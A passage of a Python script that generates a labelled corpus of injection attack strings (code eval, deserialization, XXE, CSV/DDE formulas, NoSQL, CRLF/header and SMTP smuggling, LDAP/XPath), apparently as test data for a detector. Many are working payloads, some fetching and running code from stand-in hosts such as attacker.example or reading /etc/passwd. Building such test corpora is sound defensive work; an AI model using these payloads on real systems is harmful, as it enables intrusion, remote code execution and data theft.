    ("node-eval", "require('child_process').execSync('id').toString()"),
    ("node-eval", "process.mainModule.require('child_process').exec('curl http://203.0.113.3/x|sh')"),
    ("php-eval", "phpinfo();"),
    ("php-eval", "system($_GET['c']);"),
    ("php-eval", "${system('id')}"),
    ("ruby-eval", "Kernel.exec('id')"),
    ("perl-eval", "`id`; system('cat /etc/passwd');"),
    # prototype pollution
    ("prototype-pollution-json", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("prototype-pollution-json", "{\"constructor\": {\"prototype\": {\"role\": \"admin\"}}}"),
    ("prototype-pollution-query", "__proto__[isAdmin]=true"),
    ("prototype-pollution-query", "constructor[prototype][shell]=/proc/self/exe"),
    ("prototype-pollution-rce", "{\"__proto__\":{\"execArgv\":[\"--eval=require('child_process').execSync('id')\"]}}"),
    # CSV / DDE
    ("csv-formula", "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Fleece report\")"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "+cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("csv-dde", "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
    ("csv-webservice", "=WEBSERVICE(\"http://attacker.example/leak?\"&B2&C2)"),
    ("csv-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A2),\"//a\")"),
    ("csv-formula-import-cell", "A-202,\"=HYPERLINK(\"\"http://attacker.example/?\"\"&B3,\"\"Inti\"\")\",M"),
    # XXE / XInclude
    ("xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE herd [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><herd><alpaca>&x;</alpaca></herd>"),
    ("xxe-ssrf", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY m SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><r>&m;</r>"),
    ("xxe-parameter-oob", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/evil.dtd\"> %d;]><r/>"),
    ("xinclude", "<fleece xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></fleece>"),
    ("xxe-svg-upload", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY f SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text>&f;</text></svg>"),
    # deserialization
    ("yaml-python", "!!python/object/apply:os.system ['id']"),
    ("yaml-python", "tag: A-001\nname: !!python/object/apply:subprocess.check_output [['cat', '/etc/passwd']]"),
    ("yaml-snakeyaml", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/x.jar\"]]]]"),
    ("yaml-ruby", "--- !ruby/object:Gem::Installer\ni: x"),
    ("pickle-base64", "gASVHgAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("node-serialize-iife", "{\"rce\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("jsonpickle-reduce", "{\"py/reduce\": [{\"py/type\": \"os.system\"}, {\"py/tuple\": [\"id\"]}]}"),
    ("dotnet-typenamehandling", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"},\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd\",\"/c calc\"]}}"),
    ("php-unserialize", "O:8:\"FarmUser\":1:{s:7:\"isAdmin\";b:1;}"),
    ("php-unserialize", "a:1:{i:0;O:24:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:7:\"phpinfo\";}}"),
    ("jackson-polymorphic", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://attacker.example:1389/Exploit\",\"autoCommit\":true}]"),
    ("fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://203.0.113.20:1099/Obj\",\"autoCommit\":true}"),
]
TPL["code"] = ("prefix-code", [
    "Hi {{first_name}}, ", "Fleece note: ", "Shearer: ", "Order #Y-20600 ",
], [
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "${jndi:ldap://attacker.example/x}",
    "#{T(java.lang.Runtime).getRuntime().exec('id')}",
    "<%= `id` %>",
    "=cmd|' /C calc'!A0",
])

# ====================================================================== nosqli
LIT["nosqli"] = [
    ("plain-json-ne", "{\"$ne\": null}"),
    ("login-json-ne", "{\"username\": \"admin\", \"password\": {\"$ne\": \"x\"}}"),
    ("login-json-gt", "{\"username\": {\"$gt\": \"\"}, \"password\": {\"$gt\": \"\"}}"),
    ("query-bracket-ne", "password[$ne]=farm"),
    ("query-bracket-gt", "username[$gt]=&password[$gt]="),
    ("query-bracket-regex", "username=admin&password[$regex]=^a"),
    ("json-regex-dotstar", "{\"email\": {\"$regex\": \".*\"}}"),
    ("json-regex-blind", "{\"username\": \"admin\", \"password\": {\"$regex\": \"^p\"}}"),
    ("json-where-sleep", "{\"$where\": \"sleep(5000) || true\"}"),
    ("json-where-js", "{\"$where\": \"this.role == 'admin' || true\"}"),
    ("string-where-breakout", "Luna'; return true; var x='"),
    ("string-where-breakout", "' || '1'=='1"),
    ("string-where-sleep", "Rosa'; sleep(5000); var a='"),
    ("json-in-nin", "{\"tag\": {\"$nin\": []}}"),
    ("json-exists", "{\"resetToken\": {\"$exists\": true}}"),
    ("json-or", "{\"$or\": [{\"username\": \"admin\"}, {\"1\": \"1\"}]}"),
    ("json-expr", "{\"$expr\": {\"$eq\": [1, 1]}}"),
    ("search-json-regex", "{\"name\": {\"$regex\": \"^\", \"$options\": \"i\"}, \"isPrivate\": true}"),
    ("booking-json-ne", "{\"bookingId\": \"FS-3302\", \"guestEmail\": {\"$ne\": \"\"}}"),
    ("aggregate-lookup", "[{\"$lookup\": {\"from\": \"staff_users\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]"),
    ("json-function-where", "{\"$where\": \"function(){ return this.password.match(/^a/) }\"}"),
    ("couchdb-selector", "{\"selector\": {\"_id\": {\"$gt\": null}}}"),
    ("query-bracket-where", "filter[$where]=1==1"),
    ("mapreduce-js", "{\"mapReduce\": \"orders\", \"map\": \"function(){emit(1, db.staff_users.find().toArray())}\"}"),
    ("json-tag-gt", "{\"tag\": {\"$gt\": \"\"}, \"owner\": {\"$ne\": \"me\"}}"),
]
TPL["nosqli"] = ("prefix-nosqli", [
    "tag=A-114&", "order=Y-20451&",
], [
    "owner[$ne]=1",
    "password[$regex]=.*",
])

# ====================================================================== crlf
LIT["crlf"] = [
    ("log-forging", "Luna\n2024-11-16 07:31:02 INFO user=admin action=refund amount=999.00 status=ok"),
    ("log-forging", "Pepita\r\n[2024-11-16T08:00:00Z] AUTH success user=root ip=127.0.0.1"),
    ("log-forging-urlencoded", "Rosa%0d%0a127.0.0.1 - admin [16/Nov/2024:07:31:02 +1300] \"GET /admin HTTP/1.1\" 200"),
    ("log-forging-note", "Shearing done.\nERROR payment gateway key=sk_live_FAKE rotated by attacker"),
    ("header-injection-set-cookie", "en-NZ\r\nSet-Cookie: session=attacker-fixed-value; Path=/"),
    ("header-injection-location", "/farmstay\r\nLocation: https://attacker.example/phish"),
    ("header-injection-urlencoded", "/yarn%0d%0aSet-Cookie:%20admin=true"),
    ("header-injection-lf-only", "/booking%0aX-Forwarded-Host:%20attacker.example"),
    ("response-splitting", "/shop%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("response-splitting", "lang=mi\r\n\r\n<html><body>Your booking was cancelled, re-enter card at https://attacker.example</body></html>"),
    ("double-url-encoded", "/orders%250d%250aSet-Cookie:%2520sid=evil"),
    ("unicode-newline", "/herd%E5%98%8A%E5%98%8DSet-Cookie:%20x=y"),
    ("header-cors", "https://hillsend.example.nz\r\nAccess-Control-Allow-Origin: https://attacker.example"),
    ("header-cache-poison", "fleece.jpg\r\nCache-Control: public, max-age=31536000\r\nX-Forwarded-Host: attacker.example"),
    ("mail-header-bcc", "aroha@example.com\r\nBcc: everyone@attacker.example"),
    ("mail-header-cc", "Order question\nCc: spam-target@example.org\nBcc: list@attacker.example"),
    ("mail-header-subject", "Knit Happens\r\nSubject: Your account is locked - verify at https://attacker.example"),
    ("mail-header-body", "guest@example.com\r\nContent-Type: text/html\r\n\r\n<a href=\"https://attacker.example/pay\">Pay your farm-stay balance</a>"),
    ("mail-header-from", "Tom Ruiz\nFrom: billing@hillsend.example.nz\nReply-To: billing@attacker.example"),
    ("mail-header-urlencoded", "knit.happens@example.com%0d%0aBcc:%20victims@attacker.example"),
    ("smtp-smuggling", "Thanks!\r\n.\r\nMAIL FROM:<billing@hillsend.example.nz>\r\nRCPT TO:<victim@example.com>\r\nDATA\r\nSubject: Invoice\r\n\r\nPay now\r\n."),
    ("redis-protocol-newline", "A-114\r\nFLUSHALL\r\n"),
    ("memcached-newline", "booking:FS-3302\r\nset admin 0 0 4\r\ntrue\r\n"),
    ("csv-log-newline", "Booking FS-3302 note\r\nFS-9999,attacker,0.00,paid"),
    ("sms-sender-header", "HILLSEND\r\nX-Priority: 1\r\nReply-To: sms@attacker.example"),
    ("http-request-smuggling", "x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n"),
    ("log-forging-cr-only", "Chico\r2024-11-16 INFO vet approved euthanasia order #A-077"),
]
TPL["crlf"] = ("prefix-crlf", [
    "/farmstay/book?lang=", "Reply-To: ", "/yarn/colour/",
], [
    "\r\nSet-Cookie: sid=attacker",
    "\r\nBcc: all@attacker.example",
    "\r\nLocation: https://attacker.example/",
])

# ====================================================================== ldap-xpath
LIT["ldap-xpath"] = [
    ("ldap-wildcard-auth", "*)(uid=*))(|(uid=*"),
    ("ldap-wildcard-auth", "admin)(&)"),
    ("ldap-or-injection", "aroha)(|(objectClass=*)"),
    ("ldap-attribute-exfil", "*)(userPassword=*)"),
    ("ldap-blind-prefix", "admin)(userPassword=a*"),
    ("ldap-null-terminator", "admin)(%00"),
    ("ldap-staff-search", "Mill operator*)(|(memberOf=cn=admins,ou=groups,dc=hillsend,dc=nz)"),
    ("ldap-and-close", "*)(objectClass=*))(&(objectClass=void"),
    ("ldap-mail-search", "*)(mail=*@hillsend.example.nz))(|(cn=*"),
    ("xpath-boolean", "' or '1'='1"),
    ("xpath-boolean", "Luna' or 1=1 or 'a'='a"),
    ("xpath-auth-bypass", "admin' or '1'='1' and password='x"),
    ("xpath-count-blind", "' or count(/herd/alpaca)>10 or 'a'='b"),
    ("xpath-substring-blind", "x' or substring(//user[1]/password,1,1)='a' or 'a'='b"),
    ("xpath-name-exfil", "x'] | //user/password | //*['"),
    ("xpath-union-all", "') or ('1'='1"),
    ("xpath-doc-available-oob", "x' or doc-available(concat('http://attacker.example/',name(/*))) or 'a'='b"),
    ("xpath-string-length", "' or string-length(name(/*[1]))=4 or ''='"),
]
TPL["ldap-xpath"] = ("prefix-ldap-xpath", [
    "uid=", "fleeceId=",
], [
    "*)(|(uid=*",
    "' or '1'='1",
])

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
TARGET = {"sqli": 80, "xss": 78, "cmdi": 70, "traversal": 50, "ssrf": 50, "code": 80,
          "nosqli": 27, "crlf": 30, "ldap-xpath": 20}


def main():
    here = os.path.dirname(os.path.abspath(__file__))
    rows = []
    for cat in ORDER:
        lits = LIT[cat]
        vals = [v for _, v in lits]
        assert len(set(vals)) == len(vals), cat
        assert len(lits) <= TARGET[cat], (cat, len(lits))
        seen = set(vals)
        out = list(lits)
        cls, prefixes, payloads = TPL[cat]
        guard = 0
        while len(out) < TARGET[cat]:
            guard += 1
            assert guard < 10000, cat
            p = rng.choice(prefixes)
            q = rng.choice(payloads)
            enc = rng.random() < 0.3
            v = p + q
            c = cls
            if enc:
                v = p + urllib.parse.quote(q, safe="=&" if cat == "nosqli" else "")
                c = cls + "+urlencode"
            if v in seen:
                continue
            seen.add(v)
            out.append((c, v))
        for c, v in out:
            rows.append((cat, c, v))
    with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
        for i, (cat, c, v) in enumerate(rows, 1):
            f.write(json.dumps({"id": "%s-%05d" % (PREFIX, i), "category": cat, "class": c,
                                "label": "attack", "value": v}, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
